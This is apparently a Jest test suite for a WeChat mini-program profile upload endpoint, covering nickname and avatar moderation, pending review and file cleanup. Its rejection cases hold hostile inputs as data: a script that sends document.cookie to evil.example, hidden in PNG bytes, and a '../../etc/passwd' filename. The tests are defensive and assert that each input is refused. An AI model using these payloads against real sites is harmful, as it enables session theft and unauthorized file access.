import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { LocalDirectoryAvatarStore, WeChatAccount, WeChatProfileService } from '../lib';
import type { MiniProgramProfileOptions } from '../lib';
import { GIF_1X1, MULTIPART_BOUNDARY, multipartBody, pngChunk, pngImage } from '../lib/profile/image.spec-kit';
import { SIMULATOR_DEV_PUSH, WeChatSimulator } from '../lib/testing';
import { until } from './src/pay-fixture';
import { freePort, Harness, startHarness, testPlatform } from './utils/harness';
import { registerSecret } from './utils/log-guard';

const ROUTE = '/miniprogram_auth/profile';
const BASE_URL = 'https://cdn.example.com/avatars';
/** Small enough that an oversized upload stays cheap. */
const MAX_BYTES = 64 * 1024;
/** The directory store's file behind one of its URLs. */
const fileOf = (url: string) => url.slice(BASE_URL.length + 1);

/** An app whose `profile` options are `profile`, with a directory store (unless `store: false`) and push to the simulator. */
async function startProfileApp(sim: WeChatSimulator, profile: MiniProgramProfileOptions, store = true) {
  const dir = mkdtempSync(join(tmpdir(), 'mp-profile-avatars-'));
  const port = await freePort();
  const avatarStore = store ? new LocalDirectoryAvatarStore(dir, BASE_URL) : undefined;
  const h = await startHarness({
    options: { push: { ...SIMULATOR_DEV_PUSH }, profile: { avatarMaxBytes: MAX_BYTES, avatarStore, ...profile } },
    port,
    sim,
  });
  sim.configurePush({ url: `http://127.0.0.1:${port}/miniprogram_auth/wechatPush`, ...SIMULATOR_DEV_PUSH });
  return {
    h,
    dir,
    files: () => readdirSync(dir),
    close: async () => {
      await h.close();
      rmSync(dir, { recursive: true, force: true });
    },
  };
}

describe(`POST ${ROUTE} (${testPlatform()})`, () => {
  const sim = new WeChatSimulator({ timeScale: 0.01 });
  /** Until the app acknowledged the push of a media check's verdict. */
  const verdictHandled = (traceId: string) =>
    until(() => {
      const pushId = sim.securityChecks().find((check) => check.traceId === traceId)?.pushId;
      return sim.pushes.find((push) => push.id === pushId)?.acknowledged === true;
    }, 10_000);
  beforeAll(async () => {
    await sim.start();
    registerSecret(SIMULATOR_DEV_PUSH.token);
    registerSecret(SIMULATOR_DEV_PUSH.encodingAesKey);
  });
  afterAll(() => sim.stop());

  describe('with the default policies: hold what WeChat sends to review', () => {
    let app: Awaited<ReturnType<typeof startProfileApp>>;
    let h: Harness;
    let user: { token: string; userId: number; openId: string };

    beforeAll(async () => {
      app = await startProfileApp(sim, {});
      h = app.h;
    });
    afterAll(() => app.close());
    beforeEach(async () => {
      sim.clearFaults();
      // Verdicts are pushed 0.5 s after the check (at the time scale), so that the upload's answer still shows it pending.
      sim.setSecurityVerdicts({ text: [], media: [], delayMs: 50_000 });
      user = await h.login();
    });

    const accountOf = () => h.dataSource.getRepository(WeChatAccount).findOneByOrFail({ id: user.userId });
    const post = () => h.http().post(ROUTE).set('Authorization', `Token ${user.token}`);
    const me = async () => (await h.http().get('/miniprogram_auth/me').set('Authorization', `Token ${user.token}`).expect(200)).body;
    const multipart = (parts: Parameters<typeof multipartBody>[0]) =>
      post().set('content-type', `multipart/form-data; boundary=${MULTIPART_BOUNDARY}`).send(multipartBody(parts));

    it('saves a nickname WeChat passes, from multipart or JSON, with a trailing slash too', async () => {
      const res = await post().field('nickName', '  小明 ').expect(200);
      expect(res.body).toMatchObject({
        id: user.userId,
        nickName: '小明',
        pendingNickName: null,
        pending: { nickName: false, avatar: false },
      });
      expect(res.body).not.toHaveProperty('sessionKey');
      expect(sim.securityChecks().at(-1)).toMatchObject({ kind: 'text', scene: 1, openId: user.openId, content: '小明', nickname: '小明' });
      await h.http().post(`${ROUTE}/`).set('Authorization', `Token ${user.token}`).send({ nickName: '小红' }).expect(200);
      expect(await me()).toMatchObject({ nickName: '小红', pendingNickName: null, pendingAvatarUrl: null });
    });

    it('holds a nickname WeChat sends to review, and leaves the nickname as it was', async () => {
      await post().send({ nickName: '小明' }).expect(200);
      sim.setSecurityVerdicts({ text: [{ contains: '加我', suggest: 'review', label: 10001 }] });
      const res = await post().send({ nickName: '加我微信' }).expect(200);
      expect(res.body).toMatchObject({ nickName: '小明', pendingNickName: '加我微信', pending: { nickName: true, avatar: false } });
      expect(await me()).toMatchObject({ nickName: '小明', pendingNickName: '加我微信' });
      await h.app.get(WeChatProfileService).reviewNickName(user.userId, 'accept');
      expect(await me()).toMatchObject({ nickName: '加我微信', pendingNickName: null });
    });

    it('refuses a risky nickname with 422 and its label: nothing saved, the avatar beside it not stored', async () => {
      sim.setSecurityVerdicts({ text: [{ contains: '违禁', suggest: 'risky', label: 20006 }] });
      const before = await accountOf();
      const files = app.files();
      const res = await post().field('nickName', '违禁品').attach('avatar', pngImage(), 'avatar.png').expect(422);
      expect(res.body).toMatchObject({ statusCode: 422, field: 'nickName', suggest: 'risky', label: 20006 });
      expect(await accountOf()).toEqual(before);
      expect(app.files()).toEqual(files);
    });

    it('keeps an avatar pending until WeChat passes it, then shows it and removes the one it replaces', async () => {
      const first = await post().attach('avatar', pngImage(), 'tmp_a1.png').expect(200);
      const firstUrl: string = first.body.pendingAvatarUrl;
      expect(firstUrl).toMatch(new RegExp(`^${BASE_URL}/[0-9a-f]{64}\\.png$`));
      expect(first.body).toMatchObject({ avatarUrl: null, pending: { nickName: false, avatar: true } });
      expect(sim.securityChecks().at(-1)).toMatchObject({ kind: 'media', mediaUrl: firstUrl, mediaType: 2, scene: 1, openId: user.openId });
      expect(app.files()).toContain(fileOf(firstUrl));
      await until(async () => (await me()).avatarUrl === firstUrl, 10_000);
      expect(await me()).toMatchObject({ pendingAvatarUrl: null });

      const second = await post().field('nickName', '小明').attach('avatar', GIF_1X1, 'tmp_a2.gif').expect(200);
      expect(second.body).toMatchObject({ nickName: '小明', avatarUrl: firstUrl, pending: { avatar: true } });
      await until(async () => (await me()).avatarUrl === second.body.pendingAvatarUrl, 10_000);
      await until(() => !app.files().includes(fileOf(firstUrl))); // the replaced file goes after the commit
      expect(app.files()).toContain(fileOf(second.body.pendingAvatarUrl));
    });

    it('withdraws an avatar WeChat finds risky: its file leaves the directory', async () => {
      sim.setSecurityVerdicts({ media: [{ urlContains: BASE_URL, suggest: 'risky', label: 20002 }] });
      const res = await post().attach('avatar', pngImage(), 'avatar.png').expect(200);
      const file = fileOf(res.body.pendingAvatarUrl);
      expect(app.files()).toContain(file);
      await until(() => !app.files().includes(file), 10_000);
      expect(await accountOf()).toMatchObject({ avatarUrl: null, pendingAvatarUrl: null, pendingAvatarKey: null });
      expect(await me()).toMatchObject({ pendingAvatarUrl: null });
    });

    it('holds an avatar WeChat sends to review, for the host to decide', async () => {
      sim.setSecurityVerdicts({ media: [{ urlContains: BASE_URL, suggest: 'review' }], delayMs: 0 });
      const res = await post().attach('avatar', pngImage(), 'avatar.png').expect(200);
      await verdictHandled(sim.securityChecks().at(-1)!.traceId);
      expect(await accountOf()).toMatchObject({ avatarUrl: null, pendingAvatarUrl: res.body.pendingAvatarUrl });
      const file = fileOf(res.body.pendingAvatarUrl);
      expect(app.files()).toContain(file);
      await expect(h.app.get(WeChatProfileService).reviewAvatar(user.userId, 'reject')).resolves.toBe(true);
      await until(() => !app.files().includes(file));
      expect(await me()).toMatchObject({ avatarUrl: null, pendingAvatarUrl: null });
    });

    const png = pngImage();
    const script = Buffer.from('<script>fetch("https://evil.example/?c="+document.cookie)</script>');
    const noise = Buffer.from(Buffer.alloc(MAX_BYTES).map((_, i) => (i * 7919) % 251));
    it.each([
      ['an avatar over the limit', 413, [{ name: 'avatar', filename: 'big.png', bytes: pngImage(2, 2, [pngChunk('zzZz', noise)]) }]],
      ['a text file named avatar.png', 415, [{ name: 'avatar', filename: 'avatar.png', bytes: Buffer.from('hello, I am a PNG') }]],
      [
        'a PNG header followed by a script',
        415,
        [{ name: 'avatar', filename: 'a.png', bytes: Buffer.concat([png.subarray(0, 16), script]) }],
      ],
      ['a PNG with a script after its end', 415, [{ name: 'avatar', filename: 'a.png', bytes: Buffer.concat([png, script]) }]],
      ['a ../../etc/passwd file name', 400, [{ name: 'avatar', filename: '../../etc/passwd', bytes: png }]],
      [
        'two files',
        400,
        [
          { name: 'avatar', filename: 'a.png', bytes: png },
          { name: 'avatar', filename: 'b.png', bytes: png },
        ],
      ],
      [
        'an unknown field',
        400,
        [
          { name: 'nickName', value: '小明' },
          { name: 'role', value: 'admin' },
        ],
      ],
      ['a file in another field', 400, [{ name: 'file', filename: 'a.png', bytes: png }]],
      ['a nickname with a control character', 400, [{ name: 'nickName', value: 'a\u0007b' }]],
      ['nothing at all', 400, []],
    ])('refuses %s with %i: nothing stored, the account unchanged', async (_what, status, parts) => {
      const before = await accountOf();
      const files = app.files();
      const checks = sim.securityChecks().length;
      await multipart(parts).expect(status);
      expect(app.files()).toEqual(files);
      expect(await accountOf()).toEqual(before);
      expect(sim.securityChecks()).toHaveLength(checks);
    });

    it.each([
      ['text/plain', 'nickName=小明', 415],
      ['application/x-www-form-urlencoded', 'nickName=x', 415],
      ['application/json', JSON.stringify({ nickName: '小明', isAdmin: true }), 400],
      ['application/json', JSON.stringify({ nickName: '' }), 400],
    ])('refuses a %s body %s with %i', async (contentType, body, status) => {
      const before = await accountOf();
      await post().set('content-type', contentType).send(body).expect(status);
      expect(await accountOf()).toEqual(before);
    });

    it('answers 401 without a token, before reading the body', async () => {
      const files = app.files();
      await h.http().post(ROUTE).attach('avatar', png, 'avatar.png').expect(401);
      expect(app.files()).toEqual(files);
    });

    it.each([
      ['the nickname', '/wxa/msg_sec_check'],
      ['the avatar', '/wxa/media_check_async'],
    ])('answers 503 with Retry-After when WeChat is too busy to check %s: nothing saved, nothing stored', async (_what, path) => {
      const before = await accountOf();
      const files = app.files();
      sim.addFault({ path, errcode: -1, count: 10 });
      const res = await post().field('nickName', '小明').attach('avatar', png, 'avatar.png').expect(503);
      sim.clearFaults();
      expect(res.headers['retry-after']).toBe('5');
      expect(res.body).toMatchObject({ statusCode: 503, message: expect.stringMatching(/nothing was saved/) });
      expect(app.files()).toEqual(files);
      expect(await accountOf()).toEqual(before);
    });
  });

  describe('with nicknameReview accept and no avatar store', () => {
    let app: Awaited<ReturnType<typeof startProfileApp>>;
    beforeAll(async () => (app = await startProfileApp(sim, { nicknameReview: 'accept' }, false)));
    afterAll(() => app.close());

    it('saves a nickname WeChat sends to review, and refuses avatars naming the option', async () => {
      sim.setSecurityVerdicts({ text: [{ contains: '加我', suggest: 'review' }], media: [] });
      const { token } = await app.h.login();
      const post = () => app.h.http().post(ROUTE).set('Authorization', `Token ${token}`);
      const res = await post().send({ nickName: '加我微信' }).expect(200);
      expect(res.body).toMatchObject({ nickName: '加我微信', pendingNickName: null, pending: { nickName: false } });
      const refused = await post().attach('avatar', pngImage(), 'avatar.png').expect(400);
      expect(refused.body.message).toContain('profile.avatarStore');
    });
  });

  describe('with nicknameReview reject, avatarPolicy accept and avatarReview reject', () => {
    let app: Awaited<ReturnType<typeof startProfileApp>>;
    let token: string;
    let userId: number;
    beforeAll(async () => {
      app = await startProfileApp(sim, { nicknameReview: 'reject', avatarPolicy: 'accept', avatarReview: 'reject' });
    });
    afterAll(() => app.close());
    beforeEach(async () => ({ token, userId } = await app.h.login()));
    const post = () => app.h.http().post(ROUTE).set('Authorization', `Token ${token}`);
    const accountOf = () => app.h.dataSource.getRepository(WeChatAccount).findOneByOrFail({ id: userId });

    it('refuses a nickname WeChat sends to review with 422', async () => {
      sim.setSecurityVerdicts({ text: [{ contains: '加我', suggest: 'review', label: 10001 }], media: [] });
      const res = await post().send({ nickName: '加我微信' }).expect(422);
      expect(res.body).toMatchObject({ field: 'nickName', suggest: 'review', label: 10001 });
    });

    it.each(['risky', 'review'] as const)('shows an avatar at once, and takes it down when WeChat finds it %s', async (suggest) => {
      sim.setSecurityVerdicts({ text: [], media: [{ urlContains: BASE_URL, suggest }], delayMs: 50_000 });
      const res = await post().attach('avatar', pngImage(), 'avatar.png').expect(200);
      expect(res.body).toMatchObject({ avatarUrl: expect.stringContaining(BASE_URL), pendingAvatarUrl: null, pending: { avatar: false } });
      const file = fileOf(res.body.avatarUrl);
      expect(app.files()).toContain(file);
      await until(() => !app.files().includes(file), 10_000);
      expect(await accountOf()).toMatchObject({ avatarUrl: null, avatarKey: null });
    });
  });
});
